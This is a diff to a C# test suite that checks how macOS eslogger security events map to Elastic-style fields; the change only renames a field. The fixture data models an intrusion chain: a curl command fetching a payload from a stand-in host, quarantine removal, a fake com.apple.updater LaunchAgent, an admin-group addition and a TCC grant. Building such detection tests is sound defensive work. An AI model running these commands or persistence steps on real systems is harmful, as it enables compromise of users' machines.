@@ -8,22 +8,22 @@ public sealed class EsloggerEventMappingTests
 {
     private static readonly string Zsh = EsloggerEntityIds.For(S.HostId, 500, 1000);
     private static readonly string Curl = EsloggerEntityIds.For(S.HostId, 812, 2002);
-    private readonly S _session = new();
+    private readonly S session = new();
 
     [Fact]
     public void EveryLineIsReadWithoutRejectionExceptTheUnsupportedEventType()
     {
-        for (var line = 0; line < _session.Results.Count; line++)
+        for (var line = 0; line < session.Results.Count; line++)
         {
             if (line == S.Unsupported)
             {
-                var rejection = Assert.Single(_session.Results[line].Rejections);
+                var rejection = Assert.Single(session.Results[line].Rejections);
                 Assert.Equal(RejectionReason.UnsupportedEvent, rejection.Reason);
                 Assert.Contains("54", rejection.Detail, StringComparison.Ordinal);
             }
             else
             {
-                Assert.True(_session.Results[line].Rejections.Count == 0, $"line {line}: {string.Join("; ", _session.Results[line].Rejections)}");
+                Assert.True(session.Results[line].Rejections.Count == 0, $"line {line}: {string.Join("; ", session.Results[line].Rejections)}");
             }
         }
     }
@@ -31,7 +31,7 @@ public sealed class EsloggerEventMappingTests
     [Fact]
     public void AForkIsAProcessStartOfTheChildWithTheForkingShellAsParent()
     {
-        var e = _session.Event(S.Fork);
+        var e = session.Event(S.Fork);
         AssertKind(e, "process", "start", "fork");
         Assert.Equal(EsloggerEntityIds.For(S.HostId, 812, 2001), e.Process.EntityId);
         Assert.Equal(812, e.Process.Pid);
@@ -43,10 +43,10 @@ public sealed class EsloggerEventMappingTests
     [Fact]
     public void AnExecIsANewProcessEntityWithArgumentsWorkingDirectoryAndTrustedAppleSignature()
     {
-        var e = _session.Event(S.Exec);
+        var e = session.Event(S.Exec);
         AssertKind(e, "process", "start", "exec");
         Assert.Equal(Curl, e.Process.EntityId);
-        Assert.NotEqual(_session.Event(S.Fork).Process.EntityId, e.Process.EntityId);
+        Assert.NotEqual(session.Event(S.Fork).Process.EntityId, e.Process.EntityId);
         Assert.Equal("curl", e.Process.Name);
         Assert.Equal("/usr/bin/curl", e.Process.Executable);
         Assert.Equal(["curl", "-sSL", "-o", "/tmp/payload", "https://cdn.example-updates.net/p"], e.Process.Args);
@@ -70,7 +70,7 @@ public sealed class EsloggerEventMappingTests
     [Fact]
     public void LaterEventsOfTheProcessCarryItsExecArgumentsAndParent()
     {
-        var e = _session.Event(S.Open);
+        var e = session.Event(S.Open);
         AssertKind(e, "file", "access", "open");
         Assert.Equal(Curl, e.Process.EntityId);
         Assert.Equal("curl -sSL -o /tmp/payload https://cdn.example-updates.net/p", e.Process.CommandLine);
@@ -84,12 +84,12 @@ public sealed class EsloggerEventMappingTests
     [Fact]
     public void FileCreationWriteAndModifiedCloseUseElasticsNames()
     {
-        var created = _session.Event(S.Create);
+        var created = session.Event(S.Create);
         AssertKind(created, "file", "creation", "creation");
         Assert.Equal("/private/tmp/payload", created.File.Path);
         Assert.Equal("/private/tmp", created.File.Directory);
-        AssertKind(_session.Event(S.Write), "file", "change", "modification");
-        var closed = _session.Event(S.CloseModified);
+        AssertKind(session.Event(S.Write), "file", "change", "modification");
+        var closed = session.Event(S.CloseModified);
         AssertKind(closed, "file", "change", "modification");
         Assert.Equal("/private/tmp/payload", closed.File.Path);
     }
@@ -97,14 +97,14 @@ public sealed class EsloggerEventMappingTests
     [Fact]
     public void AReadOnlyCloseIsNoEventAndNoRejection()
     {
-        Assert.Empty(_session.Results[S.CloseUnmodified].Events);
-        Assert.Empty(_session.Results[S.CloseUnmodified].Rejections);
+        Assert.Empty(session.Results[S.CloseUnmodified].Events);
+        Assert.Empty(session.Results[S.CloseUnmodified].Rejections);
     }
 
     [Fact]
     public void ARenameNamesTheNewPathAndTheOriginalPath()
     {
-        var e = _session.Event(S.Rename);
+        var e = session.Event(S.Rename);
         AssertKind(e, "file", "change", "rename");
         Assert.Equal("/Users/alice/Library/Application Support/updater", e.File.Path);
         Assert.Equal("updater", e.File.Name);
@@ -116,7 +116,7 @@ public sealed class EsloggerEventMappingTests
     [Fact]
     public void AnUnlinkIsAFileDeletionWithItsExtension()
     {
-        var e = _session.Event(S.Unlink);
+        var e = session.Event(S.Unlink);
         AssertKind(e, "file", "deletion", "deletion");
         Assert.Equal("/Users/alice/Downloads/invoice.zip", e.File.Path);
         Assert.Equal("zip", e.File.Extension);
@@ -125,11 +125,11 @@ public sealed class EsloggerEventMappingTests
     [Fact]
     public void AnExitCarriesTheExitStatusOfTheWaitWord()
     {
-        var e = _session.Event(S.Exit);
+        var e = session.Event(S.Exit);
         AssertKind(e, "process", "end", "end");
         Assert.Equal(Curl, e.Process.EntityId);
         Assert.Equal(1, e.Process.ExitCode);
-        var zero = _session.Event(S.ExitZero).Process;
+        var zero = session.Event(S.ExitZero).Process;
         Assert.True(zero.HasExitCode);
         Assert.Equal(0, zero.ExitCode);
     }
@@ -137,7 +137,7 @@ public sealed class EsloggerEventMappingTests
     [Fact]
     public void AProcessKilledByASignalHasNoExitCodeRatherThanZero()
     {
-        var e = _session.Event(S.ExitSignal);
+        var e = session.Event(S.ExitSignal);
         AssertKind(e, "process", "end", "end");
         Assert.False(e.Process.HasExitCode);
     }
@@ -145,7 +145,7 @@ public sealed class EsloggerEventMappingTests
     [Fact]
     public void RemovingTheQuarantineAttributeIsElasticsExtendedAttributesDeleteByAnUntrustedAdHocProcess()
     {
-        var e = _session.Event(S.QuarantineRemoved);
+        var e = session.Event(S.QuarantineRemoved);
         AssertKind(e, "file", "change", "extended_attributes_delete");
         Assert.Equal("/Users/alice/Downloads/helper", e.File.Path);
         Assert.Equal("/Users/alice/Downloads/helper", e.Process.Executable);
@@ -157,15 +157,15 @@ public sealed class EsloggerEventMappingTests
     [Fact]
     public void OtherExtendedAttributeChangesAreNoEvent()
     {
-        Assert.Empty(_session.Results[S.OtherAttributeRemoved].Events);
-        Assert.Empty(_session.Results[S.SetExtAttr].Events);
-        Assert.Empty(_session.Results[S.SetExtAttr].Rejections);
+        Assert.Empty(session.Results[S.OtherAttributeRemoved].Events);
+        Assert.Empty(session.Results[S.SetExtAttr].Events);
+        Assert.Empty(session.Results[S.SetExtAttr].Rejections);
     }
 
     [Fact]
     public void ALaunchItemAddIsALaunchDaemonEventOfTheInstigatorNamingThePlist()
     {
-        var e = _session.Event(S.LaunchItemAdd);
+        var e = session.Event(S.LaunchItemAdd);
         AssertKind(e, "file", "creation", "launch_daemon");
         Assert.Equal("/Users/alice/Library/LaunchAgents/com.apple.updater.plist", e.File.Path);
         Assert.Equal("/Users/alice/Downloads/helper", e.Process.Executable);
@@ -180,7 +180,7 @@ public sealed class EsloggerEventMappingTests
     [Fact]
     public void AGatekeeperOverrideNamesTheFileItsHashAndSigner()
     {
-        var e = _session.Event(S.GatekeeperOverride);
+        var e = session.Event(S.GatekeeperOverride);
         AssertKind(e, "configuration", "change", "gatekeeper_override");
         Assert.Equal("/Users/alice/Downloads/Installer.app/Contents/MacOS/Installer", e.File.Path);
         Assert.Equal("9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08", e.File.Hash.Sha256);
@@ -191,18 +191,18 @@ public sealed class EsloggerEventMappingTests
     [Fact]
     public void GroupMembershipChangesNameTheGroupTheMemberAndTheInstigator()
     {
-        var added = _session.Event(S.GroupAdd);
+        var added = session.Event(S.GroupAdd);
         AssertKind(added, "configuration", "change", "od_group_add");
         Assert.Equal("svc_backup", added.User.Name);
         Assert.Equal("admin", added.Group.Name);
         Assert.Equal("/usr/sbin/dseditgroup", added.Process.Executable);
-        AssertKind(_session.Event(S.GroupRemove), "configuration", "change", "od_group_remove");
+        AssertKind(session.Event(S.GroupRemove), "configuration", "change", "od_group_remove");
     }
 
     [Fact]
     public void ATccChangeIsATccModifyEvent()
     {
-        var e = _session.Event(S.TccModify);
+        var e = session.Event(S.TccModify);
         AssertKind(e, "configuration", "change", "tcc_modify");
         Assert.Equal("SystemPolicyDocumentsFolder", e.Tcc.Service);
         Assert.Equal("/usr/bin/osascript", e.Tcc.Identity);
@@ -223,13 +223,13 @@ public sealed class EsloggerEventMappingTests
         Assert.False(e.Process.CodeSignature.HasTrusted);
         Assert.False(e.Process.CodeSignature.HasExists);
         Assert.Equal("com.apple.curl", e.Process.CodeSignature.SigningId);
-        Assert.True(_session.Event(S.Open).Process.CodeSignature.HasTrusted);
+        Assert.True(session.Event(S.Open).Process.CodeSignature.HasTrusted);
     }
 
     [Fact]
     public void AnExecutableMappingIsALibraryLoad()
     {
-        var e = _session.Event(S.Mmap);
+        var e = session.Event(S.Mmap);
         AssertKind(e, "library", "start", "load");
         Assert.Equal("/Users/alice/Library/Application Support/libhook.dylib", e.Dll.Path);
         Assert.Equal("libhook.dylib", e.Dll.Name);
@@ -239,7 +239,7 @@ public sealed class EsloggerEventMappingTests
     [Fact]
     public void ADeveloperIdAppIsTrustedWithItsTeamAndTheLaunchingParent()
     {
-        var e = _session.Event(S.ExecDeveloperId);
+        var e = session.Event(S.ExecDeveloperId);
         Assert.True(e.Process.CodeSignature.Trusted);
         Assert.Equal("BJ4HAAB9B3", e.Process.CodeSignature.TeamId);
         Assert.Equal("us.zoom.xos", e.Process.CodeSignature.SigningId);
@@ -250,7 +250,7 @@ public sealed class EsloggerEventMappingTests
     [Fact]
     public void EventIdsAreUniqueWithinTheSession()
     {
-        var ids = _session.Results.SelectMany(r => r.Events).Select(e => e.Event.Id).ToArray();
+        var ids = session.Results.SelectMany(r => r.Events).Select(e => e.Event.Id).ToArray();
         Assert.Equal(ids.Length, ids.Distinct().Count());
     }
 
